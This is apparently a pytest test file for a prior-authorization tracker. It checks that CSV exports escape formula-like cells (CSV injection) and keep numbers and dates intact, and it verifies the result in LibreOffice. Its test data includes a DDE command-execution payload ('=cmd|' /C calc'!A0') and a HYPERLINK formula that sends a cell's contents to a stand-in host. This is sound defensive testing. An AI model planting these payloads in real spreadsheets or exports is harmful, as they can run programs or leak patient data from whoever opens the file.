"""CSV exports: no cell a spreadsheet would evaluate (CSV injection); numbers, dates as before.

A cell whose text starts with =, +, -, @, tab or carriage return is written with
a leading apostrophe (OWASP's advice; patoolkit.formulas); a number, even a
negative one, and a date are written as before.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from patoolkit import add_request, new_tracker
from patoolkit.cli import main
from patoolkit.exports import to_csv
from patoolkit.formulas import FORMULA_STARTS, escape_formula, looks_like_formula

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
AS_OF = "2026-11-28"
HOSTILE = ["=SUM(A1)", "+1", "-cmd", "@SUM(1)", "\t=1", "\r=1",
           "=cmd|' /C calc'!A0", '=HYPERLINK("https://x.example/?"&B2,"open")']

# (value as the frame holds it, the cell the CSV must carry, why)
CASES = [
    ("=SUM(A1)", "'=SUM(A1)", "= starts a formula"),
    ("+1", "'+1", "+ starts a formula: Excel reads +1 as =+1"),
    ("-cmd", "'-cmd", "- starts a formula: -2+3+cmd|' /C calc'!A0 runs a program"),
    ("@SUM(1)", "'@SUM(1)", "@ starts a function in Excel (Lotus heritage)"),
    ("\t=1", "'\t=1", "a leading tab is trimmed by some importers, leaving =1"),
    ("\r=1", "'\r=1", "a carriage return is trimmed or read as a new line, leaving =1"),
    ("normal text", "normal text", "text that starts with a letter is never a formula"),
    ("a-b", "a-b", "a sign inside the text does not start a formula"),
    ("'=1", "'=1", "text that already starts with an apostrophe is text"),
    ("-5", "'-5", "-5 typed as text (a code, an ID) stays text, not a number or a formula"),
    (-5, "-5", "-5 as a number is a number: a spreadsheet sums it"),
    (-0.5, "-0.5", "a negative float is a number"),
    (7, "7", "an int is untouched"),
    (pd.Timestamp("2026-11-02 09:30"), "2026-11-02 09:30", "a date column keeps its format"),
    (dt.date(2026, 11, 2), "2026-11-02", "a date among other values is untouched"),
]


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def evaluated(text: str) -> list[str]:
    """The cells of a CSV a spreadsheet would evaluate: formula-like and not a number."""
    return [cell for row in parsed(text) for cell in row
            if looks_like_formula(cell) and not is_number(cell)]


@pytest.mark.parametrize(("value", "cell", "reason"), CASES, ids=[case[2] for case in CASES])
def test_a_cell_is_escaped_only_when_a_spreadsheet_would_evaluate_it(
        value: object, cell: str, reason: str) -> None:
    frame = pd.DataFrame({"value": [value]})
    assert parsed(to_csv(frame)) == [["value"], [cell]], reason


def test_every_trigger_character_is_escaped_and_nothing_else_is() -> None:
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    for start in FORMULA_STARTS:
        assert escape_formula(f"{start}x") == f"'{start}x"
    for text in ["", " =1", "x=1", "1-2", "(1)", "#N/A", "'=1"]:
        assert escape_formula(text) == text


def test_a_mixed_column_escapes_its_text_and_keeps_its_numbers() -> None:
    frame = pd.DataFrame({"value": [-5, "=1", None, "-5"]}, dtype=object)
    assert parsed(to_csv(frame))[1:] == [["-5"], ["'=1"], [""], ["'-5"]]


def test_numeric_and_date_columns_keep_their_dtype_and_text() -> None:
    frame = pd.DataFrame({"days_left": [-5.0, -0.5, None],
                          "units": pd.array([-3, None, 2], dtype="Int64"),
                          "due": pd.to_datetime(["2026-11-02 09:30", None, "2026-12-01 00:00"])})
    dtypes = frame.dtypes.copy()
    rows = parsed(to_csv(frame))
    assert rows == [["days_left", "units", "due"], ["-5.0", "-3", "2026-11-02 09:30"],
                    ["-0.5", "", ""], ["", "2", "2026-12-01 00:00"]]
    pd.testing.assert_series_equal(frame.dtypes, dtypes)


def test_a_heading_that_looks_like_a_formula_is_escaped_too() -> None:
    assert parsed(to_csv(pd.DataFrame({"=1+1": ["a"]})))[0] == ["'=1+1"]


def test_text_is_quoted_numbers_and_the_heading_row_are_not() -> None:
    frame = pd.DataFrame({"request_id": ["PA-1"], "days_left": [-2.0], "row": [14]})
    assert to_csv(frame) == 'request_id,days_left,row\n"PA-1",-2.0,14\n'


def test_a_carriage_return_inside_a_cell_does_not_start_a_new_row() -> None:
    text = to_csv(pd.DataFrame({"note": ["fine\r=1+1", "next"]}))
    assert parsed(text) == [["note"], ["fine\r=1+1"], ["next"]]
    assert evaluated(text) == []


def test_the_callers_frame_is_not_changed() -> None:
    frame = pd.DataFrame({"value": ["=1", "-5"]})
    to_csv(frame)
    assert list(frame["value"]) == ["=1", "-5"]


# --- the commands ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_tracker(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tracker, saved through the safe writer, whose text cells carry formula-like values.

    Every request is denied, so each lands in the worklist (file the appeal) with its
    patient, payer, owner and denial reason.
    """
    path = tmp_path_factory.mktemp("hostile") / "tracker.xlsx"
    new_tracker(path)
    for number, value in enumerate(HOSTILE, start=1):
        add_request(path, {"request_id": f"{value}{number}", "patient_id": value,
                           "patient_name": value, "payer": value, "plan_type": "Commercial",
                           "owner": value, "codes": "70551", "urgency": "Standard",
                           "status": "Denied", "decision": "Denied", "denial_reason": value,
                           "submitted_at": "2026-10-01", "decision_date": "2026-10-09",
                           "notes": value}, by="test")
    return path


def worklist_csv(tracker: Path, out: Path) -> str:
    main(["worklist", str(tracker), "--as-of", AS_OF, "--format", "csv", "--out", str(out)])
    return out.read_bytes().decode("utf-8")  # as written: a \r inside a cell kept


def test_the_worklist_csv_has_no_cell_a_spreadsheet_would_evaluate(
        hostile_tracker: Path, tmp_path: Path) -> None:
    text = worklist_csv(hostile_tracker, tmp_path / "worklist.csv")
    rows = parsed(text)
    assert len(rows) == 1 + len(HOSTILE)  # every request is listed
    assert evaluated(text) == []
    cells = {cell for row in rows for cell in row}
    assert {"'=SUM(A1)", "'+1", "'-cmd", "'@SUM(1)", "'=cmd|' /C calc'!A0"} <= cells
    days_left = [row[rows[0].index("days_left")] for row in rows[1:]]
    assert all(cell.startswith("-") and is_number(cell) for cell in days_left)  # overdue: numbers


def test_the_audit_csv_has_no_cell_a_spreadsheet_would_evaluate(
        hostile_tracker: Path, tmp_path: Path) -> None:
    claims = tmp_path / "claims.csv"
    with claims.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["Claim ID", "Patient ID", "Payer", "Date of Service", "Codes", "Units",
                         "Auth Number"])
        for number, value in enumerate(HOSTILE, start=1):
            writer.writerow([f"{value}{number}", value, value, "2026-11-05", "70551", "1", value])
    out = tmp_path / "audit.csv"
    assert main(["audit-claims", str(hostile_tracker), str(claims), "--as-of", AS_OF,
                 "--format", "csv", "--out", str(out)]) in (0, 1)
    text = out.read_bytes().decode("utf-8")
    rows = parsed(text)
    assert len(rows) > len(HOSTILE)  # each claim has a finding (its authorization is unknown)
    assert evaluated(text) == []
    assert {"'=SUM(A1)1", "'-cmd3", "'@SUM(1)"} <= {cell for row in rows for cell in row}


@pytest.mark.libreoffice
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed; "
                    ".ci/run installs libreoffice-calc-nogui")
def test_libreoffice_opens_the_worklist_csv_without_a_formula(hostile_tracker: Path,
                                                              tmp_path: Path) -> None:
    worklist = tmp_path / "worklist.csv"
    worklist_csv(hostile_tracker, worklist)
    # the same values written without escaping: proves this LibreOffice evaluates CSV formulas
    unescaped = tmp_path / "unescaped.csv"
    unescaped.write_text("value\n=1+1\n", encoding="utf-8")
    result = subprocess.run(
        [str(SOFFICE), f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
         str(worklist), str(unescaped)],
        capture_output=True, text=True, timeout=180, check=False)
    assert result.returncode == 0, result.stderr

    control = openpyxl.load_workbook(tmp_path / "unescaped.xlsx").active
    assert control is not None
    assert control["A2"].data_type == "f", "this LibreOffice did not evaluate =1+1 at all"

    sheet = openpyxl.load_workbook(tmp_path / "worklist.xlsx").active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value for cell in cells}
    assert {"'=SUM(A1)", "'-cmd", "'=cmd|' /C calc'!A0"} <= values
    headings = [cell.value for cell in sheet[1]]
    days_left = [row[headings.index("days_left")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "n" and cell.value < 0 for cell in days_left)
